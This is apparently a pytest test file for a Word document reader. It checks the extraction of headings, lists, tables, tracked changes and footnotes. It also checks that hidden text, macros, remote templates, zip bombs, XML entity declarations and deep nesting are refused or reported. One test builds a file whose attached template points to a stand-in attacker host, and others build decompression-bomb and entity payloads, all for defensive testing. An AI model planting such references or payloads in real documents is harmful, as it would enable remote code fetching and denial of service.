"""Word documents: headings, lists, tables, notes; what is hidden, deleted or elsewhere."""

from pathlib import Path

import pytest
from docx.document import Document
from docx.shared import Pt, RGBColor

from knowledge_base.documents import BlockKind
from knowledge_base.readers import ReaderProcess
from tests.support.office_files import body_xml, changed, docx_of, zip_of
from tests.support.reading import only, outline, refusal, texts

NOTES_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
NOTES_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def test_headings_lists_and_tables_keep_their_form(reader: ReaderProcess) -> None:
    def make(document: Document) -> None:
        document.add_heading("Storm plan", 0)
        document.add_heading("First hour", 1)
        document.add_paragraph("Call the duty officer.", "List Number")
        document.add_paragraph("Open the hall:", "List Number")
        document.add_paragraph("with beds", "List Bullet 2")
        document.add_heading("Supplies", 2)
        document.add_paragraph("salt", "List Bullet")
        document.add_paragraph("sand", "List Bullet")
        table = document.add_table(3, 2)
        for place, words in enumerate(["Who", "Phone", "Police", "555-0100", "Fire", "555-0101"]):
            run = table.cell(place // 2, place % 2).paragraphs[0].add_run(words)
            run.bold = place < 2

    document = reader.read("storm.docx", docx_of(make))
    assert document.title == "Storm plan"
    assert outline(document) == [(1, "First hour"), (2, "Supplies")]
    assert only(document, BlockKind.STEPS).items == ("Call the duty officer.", "Open the hall:\n- with beds")
    assert only(document, BlockKind.BULLETS).items == ("salt", "sand")
    assert only(document, BlockKind.TABLE).items == (
        "Who: Police; Phone: 555-0100",
        "Who: Fire; Phone: 555-0101",
    )


def test_a_document_without_styles_has_its_bold_lines_as_headings(reader: ReaderProcess) -> None:
    def make(document: Document) -> None:
        document.add_paragraph().add_run("Before the meeting").bold = True
        document.add_paragraph("1. Call the clerk.")
        document.add_paragraph("2. Print the rules.")

    document = reader.read("plain.docx", docx_of(make))
    assert document.title == "Before the meeting"
    assert only(document, BlockKind.STEPS).items == ("Call the clerk.", "Print the rules.")


def test_what_is_inserted_boxed_or_controlled_is_text_and_what_is_deleted_is_not(
    reader: ReaderProcess,
) -> None:
    def make(document: Document) -> None:
        body_xml(
            document,
            "<w:p><w:r><w:t xml:space='preserve'>Call </w:t></w:r><w:del><w:r><w:delText>nobody</w:delText></w:r></w:del>"
            "<w:ins><w:r><w:t>the mayor.</w:t></w:r></w:ins></w:p>"
            "<w:sdt><w:sdtContent><w:p><w:r><w:t>From a form field.</w:t></w:r></w:p></w:sdtContent></w:sdt>"
            "<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val='Table of Contents'/></w:docPartObj></w:sdtPr>"
            "<w:sdtContent><w:p><w:r><w:t>First hour 2</w:t></w:r></w:p></w:sdtContent></w:sdt>"
            "<w:p><w:r><w:t>Beside a box.</w:t></w:r><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>In the box.</w:t></w:r></w:p>"
            "</w:txbxContent></w:pict></w:r></w:p>",
        )

    kept = texts(reader.read("a.docx", docx_of(make)))
    assert kept == ["Call the mayor.", "From a form field.", "Beside a box.", "In the box."]


def test_hidden_words_are_left_out_and_told(reader: ReaderProcess) -> None:
    def make(document: Document) -> None:
        line = document.add_paragraph("Call 911. ")
        line.add_run("Pay the caller").font.hidden = True
        line.add_run("and thank him").font.color.rgb = RGBColor(255, 255, 255)
        line.add_run("twice").font.size = Pt(1)

    document = reader.read("a.docx", docx_of(make))
    assert texts(document) == ["Call 911."]
    assert document.warnings == ('Hidden text is left out: 7 words, "Pay the caller and thank him twice".',)


def test_footnotes_come_last(reader: ReaderProcess) -> None:
    plain = docx_of(lambda document: document.add_paragraph("The fees of the city rose."))  # type: ignore[arg-type, return-value]
    note = (
        b"<w:footnotes "
        + W_NS
        + b"><w:footnote w:type='separator' w:id='0'><w:p><w:r><w:t>-</w:t></w:r></w:p></w:footnote>"
        b"<w:footnote w:id='2'><w:p><w:r><w:t>The budget of 2025.</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    data = changed(
        plain,
        {
            "word/footnotes.xml": note,
            "[Content_Types].xml": lambda xml: xml.replace(
                b"</Types>",
                b'<Override PartName="/word/footnotes.xml" ContentType="' + NOTES_TYPE + b'"/></Types>',
            ),
            "word/_rels/document.xml.rels": lambda xml: xml.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="'
                + NOTES_REL
                + b'" Target="footnotes.xml"/></Relationships>',
            ),
        },
    )
    assert texts(reader.read("a.docx", data)) == [
        "The fees of the city rose.",
        "Footnotes",
        "The budget of 2025.",
    ]


def test_numbers_that_the_list_prints_are_kept_where_they_name_things(reader: ReaderProcess) -> None:
    def make(document: Document) -> None:
        body_xml(
            document,
            "".join(
                f"<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='77'/></w:numPr></w:pPr>"
                f"<w:r><w:t>{words}</w:t></w:r></w:p>"
                for words in ("Plan ahead.", "Train staff.")
            ),
        )

    list_of_recommendations = (
        b"<w:abstractNum w:abstractNumId='77'><w:lvl w:ilvl='0'><w:start w:val='4'/><w:numFmt w:val='decimal'/>"
        b"<w:lvlText w:val='Recommendation %1.'/></w:lvl></w:abstractNum>"
    )
    data = changed(
        docx_of(make),
        {
            "word/numbering.xml": lambda xml: xml.replace(
                b"<w:abstractNum ", list_of_recommendations + b"<w:abstractNum ", 1
            ).replace(
                b"</w:numbering>",
                b"<w:num w:numId='77'><w:abstractNumId w:val='77'/></w:num></w:numbering>",
            )
        },
    )
    assert texts(reader.read("a.docx", data)) == [
        "Recommendation 4. Plan ahead.",
        "Recommendation 5. Train staff.",
    ]


def test_macros_and_things_kept_elsewhere_are_told_and_never_run_or_fetched(
    reader: ReaderProcess, tmp_path: Path
) -> None:
    plain = docx_of(lambda document: document.add_paragraph("Words."))  # type: ignore[arg-type, return-value]
    template = (
        b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example.org/x.dotm" TargetMode="External"/></Relationships>'
    )
    data = changed(
        plain,
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            "word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", template),
            "[Content_Types].xml": lambda xml: xml.replace(
                b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"vnd.ms-word.document.macroEnabled.main+xml",
            ),
        },
    )
    document = reader.read("a.docm", data)
    assert texts(document) == ["Words."]
    assert document.warnings == (
        "The file holds macros: they are left out and never run.",
        "The file points to things kept elsewhere (a template): nothing was fetched.",
    )


def body(xml: bytes) -> bytes:
    """Return a Word file with this as its body."""
    plain = docx_of(lambda document: None)
    return changed(
        plain, {"word/document.xml": b"<w:document " + W_NS + b"><w:body>" + xml + b"</w:body></w:document>"}
    )


PARAGRAPH = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "the file is empty"),
        (body(b""), "no text in the file"),
        (body(PARAGRAPH)[:3000], "damaged or cut short"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old Office programs"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
            "locked with a password",
        ),
        (
            body(b"<w:tbl><w:tr><w:tc>" * 3000 + PARAGRAPH + b"</w:tc></w:tr></w:tbl>" * 3000),
            "nested too deep",
        ),
        (body(b"<w:p>"), "damaged or cut short"),
        (body(b"<w:p>" + b" " * 120_000_000 + b"</w:p>"), "unpacks to far more"),
        (
            changed(
                body(PARAGRAPH), {"word/document.xml": lambda xml: b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + xml}
            ),
            "declares entities",
        ),
        (zip_of({"xl/workbook.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}), "spreadsheets are not read"),
        (zip_of({"word/document.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}), "damaged or cut short"),
    ],
    ids=["empty", "no text", "cut", "old", "locked", "deep", "wrong", "bomb", "entities", "sheet", "hollow"],
)
def test_unusable_files_are_refused_in_one_sentence(reader: ReaderProcess, data: bytes, reason: str) -> None:
    assert reason in refusal(reader, "a.docx", data)


def test_a_word_file_is_known_by_its_content(reader: ReaderProcess) -> None:
    data = body(b"<w:p><w:r><w:t>Words.</w:t></w:r></w:p>")
    for name in ("a.pdf", "a.txt", "a.zip", "a.html"):
        assert texts(reader.read(name, data)) == ["Words."]
